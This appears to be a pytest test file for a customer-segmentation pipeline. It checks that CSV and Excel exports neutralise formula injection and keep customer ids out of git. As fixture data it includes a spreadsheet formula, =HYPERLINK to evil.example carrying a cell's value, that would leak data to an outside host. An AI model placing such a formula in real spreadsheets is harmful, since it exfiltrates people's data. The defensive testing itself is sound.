"""A shop whose ids are phones and e-mails and whose cells would run: what leaves the shop?"""

import csv
import io
import re

import openpyxl
import pandas as pd
import pytest

from clones import make_clone
from helpers import cells_of, clean_export, export_text

pytestmark = pytest.mark.slow
CUSTOMERS = 400
LIVE = '=HYPERLINK("http://evil.example/?"&A1;"x")'
NUMBER = re.compile(r"-?\d+([.,]\d+)?")


def person(number):
    """An id as shops have them; each kind is a formula's beginning, too."""
    kinds = ["+7900{:07d}", "8900{:07d}", "user{:05d}@shop.example", "@client{:05d}", "-9{:07d}"]
    return kinds[number % len(kinds)].format(number)


@pytest.fixture(scope="module")
def shop(tmp_path_factory, shrink):
    """A clone that has run on such a shop, and the shop's ids."""
    clone = make_clone(tmp_path_factory.mktemp("clone"))
    raw = clone.folder / "data/raw"
    raw.mkdir(parents=True)
    export = clean_export(CUSTOMERS, seed=3)
    ids = {}
    for table, (header, *rows) in export.items():
        place = header.index("id")
        for row in rows:
            row[place] = ids.setdefault(row[place], person(len(ids)))
        if table == "market_file":
            category = header.index("Популярная_категория")
            for row in rows[:60]:
                row[category] = LIVE
            rows[70][header.index("Разрешить сообщать")] = LIVE
            rows[71][category + 1] = "=1+1"
            header.append(person(7))  # a header that is an id: somebody's first row was lost
            for row in rows:
                row.append("+1")
        (raw / f"{table}.csv").write_text(export_text([header, *rows]), encoding="utf-8")
    params = clone.folder / "params.yaml"
    text = shrink(params.read_text()).replace("dir: data/sample", "dir: data/raw")
    params.write_text(text)
    offers = clone.folder / "offers.yaml"
    offers.write_text(offers.read_text().replace('    ru: "', '    ru: "=1+1; '))
    clone.said = clone.run("dvc", "repro")
    clone.run("git", "add", "-A")
    return clone, set(ids.values())


def test_nothing_in_git_names_a_customer(shop):
    clone, ids = shop
    kept = set(pd.read_parquet(clone.folder / "data/prepared/customers.parquet")["customer_id"])
    assert len(kept & ids) > 300
    tracked = clone.run("git", "ls-files", "metrics", "plots", "dvc.lock", "data").split()
    assert {"metrics/prepare.json", "plots/evaluate/roc.csv", "dvc.lock"} <= set(tracked)
    for name in tracked:
        content = (clone.folder / name).read_bytes()
        found = [one for one in ids if one.encode() in content or one[1:].encode() in content]
        assert found == [], name


def test_no_cell_of_a_table_for_people_runs(shop):
    clone, _ = shop
    tables = [
        path
        for path in sorted((clone.folder / "data").rglob("*.csv"))
        if not {"sample", "raw"} & {part.name for part in path.parents}
    ]
    names = {path.relative_to(clone.folder / "data").as_posix() for path in tables}
    assert names == {
        "campaign/budgets.csv",
        "campaign/excluded.csv",
        "campaign/global_control.csv",
        "campaign/list.csv",
        "prepared/quarantine.csv",
        "prepared/readiness.csv",
        "segments/categories.csv",
        "segments/customers.csv",
        "segments/discovered.csv",
        "segments/portraits.csv",
    }
    for path in tables:
        content = path.read_bytes()
        assert content.startswith(b"\xef\xbb\xbf"), path
        text = content.decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
            bad = [cell for cell in row if cell[:1] in set("=+-@\t\r＝＋－＠") - {""}]
            assert [cell for cell in bad if not NUMBER.fullmatch(cell)] == [], path
        # An id such as -90000004 is text and has its guard, whatever it looks like.
        ids = cells_of(path).get("customer_id", pd.Series(dtype="str"))
        guarded = [cell for cell in ids if cell[:1] in set("+-@")]
        assert all(f"'{cell}" in text for cell in guarded), path


def test_no_cell_of_a_workbook_runs(shop):
    clone, ids = shop
    data = clone.folder / "data"
    books = {path.relative_to(data).as_posix(): path for path in data.rglob("*.xlsx")}
    assert {"campaign/control.xlsx", "segments/customers.xlsx"} <= set(books)
    assert len(books) > 2
    for name, path in books.items():
        page = openpyxl.load_workbook(path).active
        cells = [cell for row in page.iter_rows() for cell in row if cell.value is not None]
        assert {cell.data_type for cell in cells} <= {"s", "inlineStr", "n", "d"}, name
        first = 3 if "control" in name else 2
        assert {row[0] for row in page.iter_rows(min_row=first, values_only=True)} <= ids, name
        texts = [cell for cell in cells if str(cell.value).startswith("=")]
        assert texts or "send" not in name, name
        assert {cell.data_type for cell in texts} <= {"s", "inlineStr"}, name


def test_hostile_values_arrived_where_they_were_to_be_guarded(shop):
    clone, ids = shop
    data = clone.folder / "data"
    assert LIVE in set(cells_of(data / "prepared/quarantine.csv")["value"])
    assert cells_of(data / "prepared/readiness.csv")["example"].str.startswith("=").any()
    assert LIVE in set(cells_of(data / "segments/categories.csv")["category"])
    listed = cells_of(data / "campaign/list.csv")
    assert len(listed) >= 10
    assert listed["text"].str.startswith("=1+1; ").all()
    assert set(listed["customer_id"]) <= ids


def test_tables_for_programs_are_those_for_people(shop):
    clone, _ = shop
    for name in ("campaign/list", "campaign/excluded", "segments/customers", "segments/categories"):
        raw = pd.read_parquet(clone.folder / f"data/{name}.parquet")
        cells = cells_of(clone.folder / f"data/{name}.csv")
        assert list(raw) == list(cells)
        for column in raw:
            if pd.api.types.is_numeric_dtype(raw[column]) and raw[column].dtype != bool:
                numbers = pd.to_numeric(cells[column].str.replace(",", "."))
                pd.testing.assert_series_equal(
                    numbers.astype("float64"), raw[column].astype("float64"), check_exact=True
                )
            else:
                assert cells[column].tolist() == raw[column].astype("str").fillna("").tolist()


def test_stage_and_page_say_that_the_shop_has_no_suppression_list(shop):
    clone, _ = shop
    said = "segment: no suppression list of the shop's own is in use: campaign.suppression is data/"
    assert said in clone.said
    words = {
        "en": "No suppression list of the shop's own",
        "ru": "Собственного списка «не писать никогда»",
    }
    for language, sentence in words.items():
        page = (clone.folder / f"report/{language}.html").read_text(encoding="utf-8")
        assert sentence in page.replace("&#39;", "'")
